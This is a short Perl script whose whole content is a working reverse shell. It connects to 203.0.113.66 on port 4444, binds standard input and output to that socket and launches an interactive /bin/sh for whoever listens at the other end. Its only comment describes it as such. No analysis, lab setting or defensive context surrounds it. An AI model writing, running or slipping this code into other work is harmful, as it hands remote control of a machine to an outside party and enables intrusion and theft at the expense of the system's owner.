# A shell for who waits at the other end.
use Socket;
socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));
if (connect(S, sockaddr_in(4444, inet_aton('203.0.113.66')))) {
    open(STDIN, '>&S');
    open(STDOUT, '>&S');
    open(STDERR, '>&S');
    exec('/bin/sh', '-i');
}
